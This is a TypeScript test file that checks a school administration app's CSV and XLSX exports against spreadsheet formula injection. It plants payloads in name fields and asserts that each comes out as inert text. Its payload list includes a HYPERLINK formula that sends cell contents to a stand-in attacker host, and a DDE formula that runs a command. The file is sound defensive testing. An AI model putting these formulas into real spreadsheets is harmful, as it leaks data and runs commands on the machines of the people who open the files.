import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestClient, type TestContext } from '../../test/test-app.ts';
import { neutralizeCsvCell } from './spreadsheet-writer.ts';

// CSV formula injection through every export: names an attacker can set
// (a student's own name through an import, a course name …) must not run as
// formulas when the export is opened in Excel.

let ctx: TestContext;
let admin: TestClient;
beforeAll(async () => {
  ctx = await createTestContext();
  admin = await ctx.as('admin');
});
afterAll(() => ctx.close());

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1,1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];
/** Export path → the table and text column whose first row gets a payload. */
const TARGETS: Record<string, { table: string; column: string }> = {
  '/api/terms/export': { table: 'terms', column: 'name' },
  '/api/campuses/export': { table: 'campuses', column: 'name' },
  '/api/buildings/export': { table: 'buildings', column: 'name' },
  '/api/rooms/export': { table: 'rooms', column: 'name' },
  '/api/colleges/export': { table: 'colleges', column: 'name' },
  '/api/departments/export': { table: 'departments', column: 'name' },
  '/api/majors/export': { table: 'majors', column: 'name' },
  '/api/admin-classes/export': { table: 'admin_classes', column: 'name' },
  '/api/teachers/export': { table: 'teachers', column: 'name' },
  '/api/students/export': { table: 'students', column: 'name' },
  '/api/courses/export': { table: 'courses', column: 'name' },
  '/api/curriculum-plans/export': { table: 'plan_groups', column: 'name' },
  '/api/course-requests/export': { table: 'course_requests', column: 'note' },
};
const payloadOf = (i: number) => `${PAYLOADS[i % PAYLOADS.length]}#${i}`;
const DANGEROUS = /^[=+\-@\t\r＝＋－＠]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

beforeAll(async () => {
  let i = 0;
  for (const { table, column } of Object.values(TARGETS)) {
    const t = sql.identifier(table);
    const c = sql.identifier(column);
    await ctx.db.execute(sql`update ${t} set ${c} = ${payloadOf(i++)} where id = (select min(id) from ${t})`);
  }
});

describe('exports neutralise formulas', () => {
  it('covers every export route the app registers', () => {
    // One line per route, indented by depth: rebuild full paths from the tree.
    const stack: string[] = [];
    const exports: string[] = [];
    for (const line of ctx.app.printRoutes({ commonPrefix: false }).split('\n')) {
      const m = /^([│ ]*)(?:[└├]──\s*)?(\S+)/.exec(line);
      if (!m) continue;
      const depth = m[1].length / 4;
      stack.length = depth;
      stack.push(m[2].replace(/\s*\(.*$/, ''));
      const path = stack.join('');
      if (path.endsWith('/export')) exports.push(path);
    }
    // The printouts have no CSV: the timetable's is checked on its own below, the exam schedule's
    // in schedule-export.http.test.ts.
    // The grade analysis workbook is checked in grades-review.http.test.ts.
    expect(new Set(exports)).toEqual(
      new Set([...Object.keys(TARGETS), '/api/timetable/export', '/api/exams/schedules/export', '/api/grades/analysis/export']),
    );
  });

  it('the printed timetable (XLSX) shows a course named like a formula as text', async () => {
    const payload = payloadOf(3);
    const [row] = (
      (await ctx.db.execute(sql`select tc.course_id as "courseId", tc.term_id as "termId", tc.admin_class_ids[1] as "adminClassId"
        from timetable_version_lectures vl join teaching_classes tc on tc.id = vl.teaching_class_id
        where cardinality(tc.admin_class_ids) > 0 order by vl.id limit 1`)) as unknown as {
        rows: { courseId: number; termId: number; adminClassId: number }[];
      }
    ).rows;
    await ctx.db.execute(sql`update courses set name = ${payload} where id = ${row.courseId}`);
    const res = await admin.get('/api/timetable/export', { query: { termId: row.termId, adminClassId: row.adminClassId, format: 'xlsx' } });
    expect(res.statusCode).toBe(200);
    const zip = await JSZip.loadAsync(res.rawPayload);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(new Uint8Array(res.rawPayload).buffer);
    const found: ExcelJS.Cell[] = [];
    // A lecture over several periods is a merged range: its master cell holds the text.
    wb.worksheets[0].eachRow((r) =>
      r.eachCell(
        (cell) =>
          void (cell.type !== ExcelJS.ValueType.Merge && JSON.stringify(cell.value).includes(payload.slice(0, 8)) && found.push(cell)),
      ),
    );
    expect(found.length).toBeGreaterThan(0);
    for (const cell of found) expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type);
  });

  it.each(Object.keys(TARGETS).map((path, i) => [path, i] as const))(
    'CSV %s: the payload comes out quoted, no cell starts a formula',
    async (path, i) => {
      const res = await admin.get(path, { query: { format: 'csv' } });
      expect(res.statusCode).toBe(200);
      const cells = (parse(res.rawPayload, { bom: true, relax_column_count: true }) as string[][]).flat();
      expect(cells).toContain(`'${payloadOf(i)}`);
      expect(cells.filter((c) => DANGEROUS.test(c) && !PLAIN_NUMBER.test(c))).toEqual([]);
    },
  );

  it.each(Object.keys(TARGETS).map((path, i) => [path, i] as const))(
    'XLSX %s: the payload is a text cell, the sheet holds no formula',
    async (path, i) => {
      const res = await admin.get(path, { query: { format: 'xlsx' } });
      expect(res.statusCode).toBe(200);
      const zip = await JSZip.loadAsync(res.rawPayload);
      const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
      expect(sheetXml).not.toMatch(/<f[ >]/);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(new Uint8Array(res.rawPayload).buffer);
      const found: ExcelJS.Cell[] = [];
      // XML reads a stored \r back as \n; what matters is that the cell is text.
      const payload = payloadOf(i).replace(/\r/g, '\n');
      wb.worksheets[0].eachRow((row) => row.eachCell((cell) => void (cell.value === payload && found.push(cell))));
      expect(found.length).toBeGreaterThan(0);
      for (const cell of found) expect(cell.type).toBe(ExcelJS.ValueType.String);
    },
  );

  it('leaves numbers alone, negative ones included, and quotes text that merely looks like a sum', () => {
    expect(neutralizeCsvCell(-3)).toBe(-3);
    expect(neutralizeCsvCell('-3.5')).toBe('-3.5');
    expect(neutralizeCsvCell('+86')).toBe('+86');
    expect(neutralizeCsvCell('1e3')).toBe('1e3');
    expect(neutralizeCsvCell('-3+4')).toBe("'-3+4");
    expect(neutralizeCsvCell('张三')).toBe('张三');
    expect(neutralizeCsvCell('a=b')).toBe('a=b');
  });
});
